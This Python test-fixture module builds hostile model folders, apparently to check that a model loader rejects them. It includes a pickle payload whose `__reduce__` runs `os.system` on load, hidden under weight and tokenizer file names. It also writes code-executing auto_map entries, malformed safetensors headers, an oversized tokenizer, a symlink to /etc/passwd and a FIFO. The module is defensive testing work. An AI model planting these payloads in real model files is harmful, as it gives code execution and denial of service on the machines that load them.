"""Model folders as an attacker would make them. Every payload, if it ever runs, touches the files it was built with."""

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

Build = Callable[[Path, str], None]
"""Make one in this folder; the text is a shell command that leaves the marker."""


class Payload:
    """Runs the command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self._command,)


CONFIG: Mapping[str, object] = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 16,
    "intermediate_size": 16,
    "num_hidden_layers": 1,
    "num_attention_heads": 2,
    "num_key_value_heads": 2,
    "vocab_size": 64,
    "max_position_embeddings": 4096,
    "tie_word_embeddings": True,
    "rms_norm_eps": 1e-6,
    "bos_token_id": 0,
    "eos_token_id": 0,
}
_SHAPES = {
    "model.embed_tokens.weight": (64, 16),
    "model.norm.weight": (16,),
    **{f"model.layers.0.self_attn.{name}_proj.weight": (16, 16) for name in "qkvo"},
    **{f"model.layers.0.mlp.{name}_proj.weight": (16, 16) for name in ("gate", "up", "down")},
    "model.layers.0.input_layernorm.weight": (16,),
    "model.layers.0.post_attention_layernorm.weight": (16,),
}
_LETTERS = "abcdefghijklmnopqrstuvwxyz =!"


def tokenizer(pattern: str = r"\w+|\W", vocabulary: Mapping[str, int] | None = None) -> dict[str, object]:
    """A tokenizer of single letters, which splits by a regular expression of the attacker's."""
    vocabulary = vocabulary or {"<unk>": 0, **{letter: number for number, letter in enumerate(_LETTERS, 1)}}
    split = {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}
    return {
        "version": "1.0", "truncation": None, "padding": None, "normalizer": None, "pre_tokenizer": split,
        "added_tokens": [{"id": 0, "content": "<unk>", "single_word": False, "lstrip": False, "rstrip": False,
                          "normalized": False, "special": True}],
        "post_processor": None, "decoder": {"type": "Fuse"},
        "model": {"type": "BPE", "dropout": None, "unk_token": "<unk>", "continuing_subword_prefix": None,
                  "end_of_word_suffix": None, "fuse_unk": False, "byte_fallback": False, "vocab": dict(vocabulary),
                  "merges": []},
    }  # fmt: skip


def safetensors(header: object, data: bytes = b"", length: int | None = None) -> bytes:
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded) if length is None else length) + encoded + data


def weights() -> bytes:
    """Of a tiny model that works, all its numbers small."""
    header, at = {}, 0
    for name, shape in _SHAPES.items():
        size = 4 * (shape[0] * shape[1] if len(shape) == 2 else shape[0])
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [at, at + size]}
        at += size
    return safetensors(header, struct.pack("<f", 0.01) * (at // 4))


def sound(folder: Path, template: str = "{{ messages[0].content }}", pattern: str = r"\w+|\W") -> Path:
    """A tiny model that can be served."""
    folder.mkdir(exist_ok=True, parents=True)
    (folder / "config.json").write_text(json.dumps(CONFIG))
    (folder / "model.safetensors").write_bytes(weights())
    (folder / "tokenizer.json").write_text(json.dumps(tokenizer(pattern)))
    names = {"tokenizer_class": "PreTrainedTokenizerFast", "unk_token": "<unk>", "bos_token": "<unk>"}
    (folder / "tokenizer_config.json").write_text(
        json.dumps({**names, "eos_token": "<unk>", "model_max_length": 4096, "chat_template": template})
    )
    return folder


def _pickled(name: str, protocol: int = 2, *, alone: bool = False) -> Build:
    def build(folder: Path, command: str) -> None:
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(pickle.dumps(Payload(command), protocol=protocol))
        if alone:
            (folder / "model.safetensors").unlink()

    return build


def _zipped(name: str) -> Build:
    """As `torch.save` writes."""

    def build(folder: Path, command: str) -> None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", pickle.dumps(Payload(command), protocol=2))
            archive.writestr("archive/version", "3\n")
        (folder / name).write_bytes(buffer.getvalue())

    return build


def _code(name: str) -> Build:
    def build(folder: Path, command: str) -> None:
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(f"import os\nos.system({command!r})\nclass Evil: pass\n")

    return build


def _custom(file: str, entry: Mapping[str, object]) -> Build:
    """A configuration that asks for code of the model's own, which lies beside it under a name that may pass."""

    def build(folder: Path, command: str) -> None:
        (folder / "evil.txt").write_text(f"import os\nos.system({command!r})\n")
        path = folder / file
        before = json.loads(path.read_text()) if path.exists() else {}
        path.write_text(json.dumps({**before, **entry}))

    return build


def _header(header: object, data: bytes = b"", length: int | None = None) -> Build:
    return lambda folder, _: (folder / "model.safetensors").write_bytes(safetensors(header, data, length)) and None


def _tensor(begin: int, end: int, **other: object) -> dict[str, object]:
    return {"dtype": "F32", "shape": [(end - begin) // 4], "data_offsets": [begin, end], **other}


def _vocabulary(folder: Path, _: str) -> None:
    """257 MiB of tokens: more than any model has."""
    with (folder / "tokenizer.json").open("wb") as file:
        file.write(b'{"model": {"vocab": {"')
        file.truncate(257 << 20)


def _nested(folder: Path, _: str) -> None:
    inside = json.dumps({**CONFIG, "a": 1})[:-1] + ', "deep": ' + '{"a":' * 900 + '{"auto_map": {}}' + "}" * 900 + "}"
    (folder / "config.json").write_text(inside)


def _link(folder: Path, _: str) -> None:
    (folder / "tokenizer.json").unlink()
    (folder / "tokenizer.json").symlink_to("/etc/passwd")


def _pipe(folder: Path, _: str) -> None:
    (folder / "generation_config.json").unlink(missing_ok=True)
    os.mkfifo(folder / "generation_config.json")


_AUTO = {"auto_map": {"AutoConfig": "evil.Evil", "AutoModelForCausalLM": "evil.Evil"}}
EVIL: Mapping[str, Build] = {
    "pickle as .bin": _pickled("pytorch_model.bin"),
    "pickle as .bin and no other weights": _pickled("pytorch_model.bin", alone=True),
    "pickle as .pt": _pickled("model.pt", protocol=4),
    "pickle as .ckpt": _pickled("last.ckpt", protocol=5),
    "pickle as .pkl": _pickled("training.pkl", protocol=0),
    "pickle as .safetensors, protocol 2": _pickled("model.safetensors", 2),
    "pickle as .safetensors, protocol 4": _pickled("model.safetensors", 4),
    "pickle as .safetensors, protocol 0": _pickled("model.safetensors", 0),
    "pickle as tokenizer.model": _pickled("tokenizer.model", 4),
    "zip as .safetensors": _zipped("model.safetensors"),
    "zip as .bin": _zipped("pytorch_model.bin"),
    "zip as .pt2": _zipped("model.pt2"),
    "zip as tokenizer.model": _zipped("tokenizer.model"),
    "Python beside the weights": _code("modeling_evil.py"),
    "Python in a folder": _code("1_Pooling/__init__.py"),
    "native library": _code("kernels.so"),
    "auto_map in config.json": _custom("config.json", _AUTO),
    "auto_map of another repository": _custom("config.json", {"auto_map": {"AutoConfig": "other/evil--evil.Evil"}}),
    "auto_map deeper in config.json": _custom("config.json", {"text_config": {**CONFIG, **_AUTO}}),
    "auto_map in tokenizer_config.json": _custom(
        "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["evil.Evil", None]}}
    ),
    "auto_map in generation_config.json": _custom("generation_config.json", _AUTO),
    "auto_map below 900 tables": _nested,
    "custom_pipelines": _custom("config.json", {"custom_pipelines": {"text-generation": {"impl": "evil.Evil"}}}),
    "an architecture of its own": _custom("config.json", {"architectures": ["Evil"], "model_type": "evil"}),
    "header as long as can be said": _header({}, length=(1 << 64) - 1),
    "header beyond 16 MiB": _header(b" " * ((16 << 20) + 2) + b"{}"),
    "header beyond its file": _header({}, length=1 << 30),
    "header nested without end": _header(b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    "header that is a list": _header([1, 2, 3]),
    "header that is no text": _header(b"\xff" * 64),
    "more tensors than allowed": _header({f"t{number}": _tensor(0, 0) for number in range(100_001)}),
    "tensor beyond the file": _header({"a": _tensor(0, 1 << 40)}, bytes(8)),
    "overlapping tensors": _header({"a": _tensor(0, 8), "b": _tensor(4, 12)}, bytes(12)),
    "the same bytes a thousand times": _header({f"t{n}": _tensor(0, 4096) for n in range(1000)}, bytes(4096)),
    "tensor that ends before it begins": _header({"a": _tensor(8, 0)}, bytes(8)),
    "tensor before the file": _header({"a": _tensor(-8, 0)}, bytes(8)),
    "offsets that overflow": _header({"a": _tensor(0, (1 << 64) + 8)}, bytes(8)),
    "shape larger than its bytes": _header({"a": _tensor(0, 8, shape=[1 << 40])}, bytes(8)),
    "shape of too many dimensions": _header({"a": _tensor(0, 4, shape=[1] * 70_000)}, bytes(4)),
    "type that is not known": _header({"a": _tensor(0, 8, dtype="OBJECT")}, bytes(8)),
    "bytes that belong to no tensor": _header({"a": _tensor(0, 8)}, bytes(4096)),
    "tokenizer of 257 MiB": _vocabulary,
    "tokenizer that is a link out of the folder": _link,
    "configuration that is a pipe": _pipe,
}
